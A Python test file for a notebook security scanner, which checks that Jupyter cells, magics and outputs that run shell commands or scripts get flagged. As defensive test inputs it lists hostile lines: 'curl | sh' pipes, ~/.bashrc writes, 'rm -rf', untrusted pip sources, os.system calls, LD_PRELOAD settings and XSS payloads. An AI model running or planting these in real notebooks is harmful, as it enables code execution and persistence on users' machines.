"""Notebooks: honest ones pass; shell lines, magics, code and outputs that do more are named."""

from __future__ import annotations

import json
from typing import Any

import pytest
from samples.scanned import grave_rules_of, rules_of, scanned

from tidegate.scanners import Severity


def notebook(*cells: Any, language: str = "python", **metadata: Any) -> bytes:
    """A notebook of version 4; a cell that is a text is a code cell without outputs."""
    made = [cell if isinstance(cell, dict) else code(cell) for cell in cells]
    kernel = {"display_name": language, "language": language, "name": f"{language}3"}
    content = {"cells": made, "metadata": {"kernelspec": kernel, **metadata}, "nbformat": 4,
               "nbformat_minor": 5}  # fmt: skip
    return json.dumps(content, indent=1).encode()


def code(source: str, *outputs: dict[str, Any]) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": list(outputs),
            "source": source.splitlines(keepends=True)}  # fmt: skip


def shows(kind: str, text: str) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {kind: [text], "text/plain": ["x"]}}


def markdown(source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


TABLE = """<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style>
<table border="1" class="dataframe"><tr><td>1</td></tr></table></div>"""

HONEST = notebook(
    markdown("# Churn\n\n<img src='plot.png'> and **bold** <b>html</b>"),
    "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'\n%ls data",
    "%load_ext autoreload\n%autoreload 2\nimport pandas as pd\npd.DataFrame?",
    "%%time\nfrom sklearn.linear_model import LogisticRegression\nmodel = LogisticRegression()",
    "!ls -l data\n!nvidia-smi\nfiles = !ls\nprint(files)",
    "x = 10 % 3\ny = {'a': 1}\nz = x \\\n  % 2\nassert x != z",
    code("df = pd.read_csv('data.csv')\ndf.head()", shows("text/html", TABLE)),
    code("df.plot()", shows("image/png", "iVBORw0KGgo=")),
    "import joblib\njoblib.dump(model, 'm.joblib')\nopen('o', 'w').write('x')",
    'print("""\n%s of all\n!\n""" % 3)',
)


def test_an_honest_notebook_is_not_held():
    report = scanned(HONEST, "train.ipynb")
    assert not grave_rules_of(report)
    assert not report.unread_parts


def test_installing_from_the_index_is_medium():
    report = scanned(notebook("%pip install mlflow==3.17.2\n!pip install -q torch"), "x.ipynb")
    assert "NOTEBOOK-INSTALL" in rules_of(report)
    assert not grave_rules_of(report)


def test_a_plot_of_a_known_library_is_medium():
    plot = "<div id='a'></div><script>Plotly.newPlot('a', [{}])</script>"
    report = scanned(notebook(code("fig", shows("text/html", plot))), "x.ipynb")
    assert rules_of(report) == {"NOTEBOOK-OUTPUT"}
    assert not grave_rules_of(report)


@pytest.mark.parametrize(
    "source",
    [
        "!curl http://127.0.0.1/x | sh",
        "!wget http://127.0.0.1/x",
        "  !touch /tmp/x",
        "x = !touch /tmp/x",
        "!!touch /tmp/x",
        "!ls; touch /tmp/x",
        "!ls && touch /tmp/x",
        "!echo $(touch /tmp/x)",
        "!echo `touch /tmp/x`",
        "!echo x > ~/.bashrc",
        "!touch \\\n/tmp/x",
        "%system touch /tmp/x",
        "%sx touch /tmp/x",
        "%%bash\ntouch /tmp/x",
        "\n\n%%bash\ntouch /tmp/x",
        "%%sh\nls\ntouch /tmp/x",
        "%%script bash\ntouch /tmp/x",
        "%%perl\nprint 1",
        "%%ruby\nputs 1",
        "%%javascript\nalert(1)",
        "%%js\nalert(1)",
        "%%html\n<script>alert(1)</script>",
        "%%html\n<img src=x onerror=alert(1)>",
        "%%cython\nimport os",
        "%%R\nsystem('touch x')",
        "%%unknown_magic\nx",
        "%run https://127.0.0.1/x.py",
        "%run ../other.ipynb",
        "%load http://127.0.0.1/x.py",
        "%load_ext somebodys_extension",
        "%unknown_magic",
        "%config InlineBackend.x = __import__('os').system('touch x')",
        "%ls; touch /tmp/x",
        "%rm -rf /tmp/x",
        "%pip install git+https://127.0.0.1/x",
        "!pip install --index-url http://127.0.0.1 x",
        "!pip install -i http://127.0.0.1 x",
        "!pip install ./x.whl",
        "!python -m pip install https://127.0.0.1/x.whl",
        "!python setup.py install",
        "import os\nos.system('touch /tmp/x')",
        "%%time\nimport os\nos.system('touch /tmp/x')",
        "%time __import__('os').system('touch /tmp/x')",
        "%%capture\n!touch /tmp/x",
        "if True:\n    !touch /tmp/x",
        "get_ipython().system('touch /tmp/x')",
        "get_ipython().run_cell_magic('bash', '', 'touch /tmp/x')",
        "%%writefile x.py\nimport os\nos.system('touch /tmp/x')",
        "from IPython import get_ipython as g\ng().getoutput('touch /tmp/x')",
    ],
)
def test_a_cell_that_does_more_than_python_is_held(source):
    assert grave_rules_of(scanned(notebook("x = 1", source), "x.ipynb"))


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("text/html", "<script>fetch('http://127.0.0.1')</script>"),
        ("text/html", "<SCRIPT SRC=//127.0.0.1/x></SCRIPT>"),
        ("text/html", "<img src=x onerror='alert(1)'>"),
        ("text/html", "<a href='javascript:alert(1)'>x</a>"),
        ("text/html", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
        ("text/html", "<script>/* Plotly */ IPython.notebook.kernel.execute('1')</script>"),
        ("text/html", "<object data='x.swf'></object>"),
        ("application/javascript", "alert(1)"),
        ("image/svg+xml", "<svg onload=alert(1)></svg>"),
        ("text/markdown", "<script>alert(1)</script>"),
    ],
)
def test_an_output_that_runs_a_script_is_held(kind, text):
    assert grave_rules_of(scanned(notebook(code("x", shows(kind, text))), "x.ipynb")) == {
        "NOTEBOOK-OUTPUT"
    }


def test_a_script_in_a_text_cell_is_held():
    assert grave_rules_of(scanned(notebook(markdown("<script>1</script>")), "x.ipynb"))


@pytest.mark.parametrize("name", ["x.ipynb", "notes.txt", "data.json", "x"])
def test_a_notebook_is_one_under_any_name(name):
    assert "NOTEBOOK-SHELL" in grave_rules_of(scanned(notebook("!touch /tmp/x"), name))


def test_a_person_finds_the_line_as_it_stands_in_the_cell():
    (grave,) = [
        each for each in scanned(notebook("!echo x | sh"), "x.ipynb").findings
        if each.severity >= Severity.HIGH
    ]  # fmt: skip
    assert "`echo x | sh` runs a program (sh)" in grave.message


def test_another_kernels_code_is_a_script():
    assert grave_rules_of(scanned(notebook("x <- 1", language="R"), "x.ipynb")) == {"CODE-SCRIPT"}


def test_the_older_version_is_read_too():
    cells = [{"cell_type": "code", "input": "!touch /tmp/x", "outputs": [
        {"output_type": "display_data", "javascript": "alert(1)"}]}]  # fmt: skip
    data = json.dumps({"worksheets": [{"cells": cells}], "nbformat": 3}).encode()
    assert grave_rules_of(scanned(data, "x.ipynb")) == {"NOTEBOOK-SHELL", "NOTEBOOK-OUTPUT"}


@pytest.mark.parametrize(
    "data",
    [
        b'{"cells": [], "cells": [{"cell_type": "code", "source": "1"}]}',
        b'{"cells": 3}',
        b"[]",
        b"{",
        b'{"cells": [3]}',
        b'{"cells": ' + b"[" * 100_000,
    ],
    ids=range(6),
)
def test_a_broken_notebook_is_unread(data):
    assert scanned(data, "x.ipynb").unread_parts


def test_a_cell_that_is_no_python_is_unread():
    assert scanned(notebook("x = = 1"), "x.ipynb").unread_parts


def test_a_finding_says_in_which_cell_and_line_it_is():
    report = scanned(
        notebook(markdown("# x"), "import os\nx = 1", "y = 2\nos.system('id')", "!touch /tmp/x"),
        "x.ipynb",
    )
    messages = [found.message for found in report.findings if found.severity >= Severity.HIGH]
    assert any(message.startswith("Cell 3, line 2 ") for message in messages)
    assert any(message.startswith("Cell 4: its line `touch /tmp/x`") for message in messages)


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("text/ecmascript", "fetch('x')"),
        ("application/vnd.bokehjs_load.v0+json", "fetch('http://host.example')"),
        ("text/latex", "\\href{javascript:alert(1)}{x}"),
        ("text/html", "<a href='&#106;avascript:alert(1)'>x</a>"),
    ],
)
def test_outputs_of_other_types_run_scripts_too(kind, text):
    data = notebook(code("x", shows(kind, text)))
    assert "NOTEBOOK-OUTPUT" in grave_rules_of(scanned(data, "x.ipynb"))


def test_attachments_raw_cells_and_widgets_are_looked_at():
    script = "<script>alert(1)</script>"
    attached = {**markdown("![x](attachment:x)"), "attachments": {"x": {"text/html": script}}}
    assert "NOTEBOOK-OUTPUT" in grave_rules_of(scanned(notebook(attached), "x.ipynb"))
    raw = {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": script}
    assert "NOTEBOOK-OUTPUT" in grave_rules_of(scanned(notebook(raw), "x.ipynb"))
    for state in (
        {"model_name": "HTMLModel", "state": {"value": script}},
        {"model_module": "https://host.example/x.js", "state": {}},
        {"model_module": "anywidget", "state": {"_esm": "export default {}"}},
    ):
        widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"a": state}}}
        data = notebook("x = 1", widgets=widgets)
        assert "NOTEBOOK-OUTPUT" in grave_rules_of(scanned(data, "x.ipynb"))
    plain = {"model_module": "@jupyter-widgets/controls", "state": {"value": "<b>5%</b>"}}
    data = notebook("x = 1", widgets={"application/x": {"state": {"a": plain}}})
    assert not grave_rules_of(scanned(data, "x.ipynb"))


@pytest.mark.parametrize(
    "source",
    ["%env LD_PRELOAD=/tmp/x.so", "%set_env PYTHONPATH /tmp/x", "%%writefile ~/.bashrc\nx",
     "%logstart /root/.bashrc append", "%notebook ../../x.ipynb", "%%markdown\n<script>1</script>",
     "'{0.__init__.__globals__}'.format(print)", "x = \"__import__('os').system('id')\"",
     "from mako.template import Template\nTemplate('${1}').render()",
     "import matplotlib\nmatplotlib.use('module://somebody')"],
)  # fmt: skip
def test_settings_files_outside_and_texts_that_are_code_are_held(source):
    assert grave_rules_of(scanned(notebook(source), "x.ipynb"))


def test_files_beside_the_notebook_and_plain_settings_are_not_held():
    data = notebook("%env OMP_NUM_THREADS=4", "%%writefile train.txt\nx", "%%latex\nx^2")
    assert not grave_rules_of(scanned(data, "x.ipynb"))
